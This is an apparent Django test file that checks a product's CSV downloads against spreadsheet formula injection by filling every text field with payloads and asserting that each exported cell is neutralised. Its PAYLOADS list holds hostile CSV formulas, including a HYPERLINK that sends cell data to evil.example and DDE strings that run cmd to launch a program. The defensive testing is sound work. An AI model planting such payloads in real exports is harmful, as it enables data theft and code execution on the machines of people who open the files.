"""Formula injection: every text field of every model holds a formula, and every CSV the product
offers (found by asking every URL of the permission matrix, as every role) is read back: no cell
may start as a formula would. One writer (core.csvfile) is the only one used for downloads."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.db import DatabaseError, models, transaction
from django.http import HttpResponseBase
from django.test import Client
from django.urls import reverse

from peoplezones.core import csvfile
from peoplezones.core.tests.test_permissions import MATRIX, ROLES, url_args
from peoplezones.research import services as research_services
from peoplezones.zones import services as zone_services
from tests import factories
from tests.world import build

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Opening times")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
OURS = "peoplezones."
# Files written as input for the demo and the benchmarks (police.uk's own layout), not offered
# to anyone as a download.
# Files nobody downloads: generated demo files, and publishers' data rewritten in police.uk's and
# our importers' own layouts to be read straight back by those importers (cells kept as sent).
NOT_DOWNLOADS = {"outcomes/generate.py", "datasources/sources.py"}


def _text_fields(model: type[models.Model]) -> list[models.Field]:
    """Free-text fields that can all hold the same value (not keys, not part of a unique set)."""
    in_unique_sets = {
        name
        for constraint in model._meta.constraints
        if isinstance(constraint, models.UniqueConstraint)
        for name in constraint.fields
    } | {name for names in model._meta.unique_together for name in names}
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, (models.CharField, models.TextField))
        and not isinstance(f, models.SlugField)
        and not f.choices
        and not f.unique
        and f.name not in in_unique_sets
        and f.name != "password"
    ]


def fill_every_text_field() -> int:
    """Every text field of every row of ours holds a formula; returns how many fields."""
    filled = 0
    for model in apps.get_models():
        if not model.__module__.startswith(OURS) or model._meta.proxy:
            continue
        for field in _text_fields(model):
            payload = PAYLOADS[filled % len(PAYLOADS)]
            try:
                with transaction.atomic():
                    model.objects.update(
                        **{field.name: payload[: field.max_length or len(payload)]}
                    )
            except DatabaseError:  # the audit trail refuses changes, by design
                continue
            filled += 1
    return filled


NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_cells(body: bytes) -> list[str]:
    """Cells a spreadsheet would read as a formula (judged here, not by the writer under test)."""
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)
    ]


@pytest.mark.django_db
def test_no_csv_the_product_offers_carries_a_formula(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    people, args, zone = build()
    action = zone.actions.first()
    zone_services.record_progress(action=action, actor=people["staff"], text="Started")
    survey = zone.surveys.first()
    research_services.submit_response(
        wave=survey.waves.get(), data={"safety_dark": ["fairly_safe"]}
    )
    factories.make_asset("library", name="A library")
    # First, which URLs offer a CSV to whom; then the same downloads once every field is filled.
    clients = {role: _client(people[role]) for role in ROLES}
    # Each URL as every role the permission matrix lets see it (the others are sent to sign in or
    # refused, which test_permissions checks): a CSV can only come from those.
    offering = [(name, role) for name in sorted(MATRIX) for i, role in enumerate(ROLES)
                if MATRIX[name][1][i] == 200
                and _csv(_get(clients[role], name, args, zone)) is not None]  # fmt: skip
    assert fill_every_text_field() > 100
    offered: dict[str, list[str]] = {}
    for url_name, role in offering:
        body = _csv(_get(clients[role], url_name, args, zone))
        assert body is not None
        offered.setdefault(url_name, []).extend(formula_cells(body))
        if url_name in ("assets:download_csv", "zones:plan_csv", "research:export_csv"):
            assert any(p[1:8].encode() in body for p in PAYLOADS), (
                f"{url_name} as {role} shows none of the formulas: the test proves nothing"
            )
    assert set(offered) >= {
        "assets:download_csv", "assets:csv_template", "zones:plan_csv", "outcomes:zone_csv",
        "research:export_csv",
    }  # fmt: skip
    assert {name: cells for name, cells in offered.items() if cells} == {}


def _client(person) -> Client:
    client = Client()
    if person is not None:
        client.force_login(person)
    return client


def _get(client: Client, url_name: str, args: dict, zone) -> HttpResponseBase:
    return client.get(reverse(url_name, args=url_args(url_name, args, zone)))


def _csv(response: HttpResponseBase) -> bytes | None:
    if response.status_code != 200 or "text/csv" not in response.get("Content-Type", ""):
        return None
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_every_csv_is_written_by_the_one_safe_writer():
    root = Path(csvfile.__file__).parents[1]
    found = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "tests" in path.parts or path == Path(csvfile.__file__) or relative in NOT_DOWNLOADS:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{relative}:{node.lineno} csv.{node.attr}")
    assert found == []


def test_safe_cells_keep_numbers_and_round_trip():
    for payload in PAYLOADS:
        assert csvfile.safe_cell(payload) == "'" + payload
        assert csvfile.restore_cell(csvfile.safe_cell(payload)) == payload
    for plain in ("-1.180000", "+44", "52.6", "-5", "1e-3", "Library", "", "'quoted"):
        assert csvfile.safe_cell(plain) == plain
        assert csvfile.restore_cell(plain) == plain
    assert csvfile.safe_cell(-1.5) == -1.5
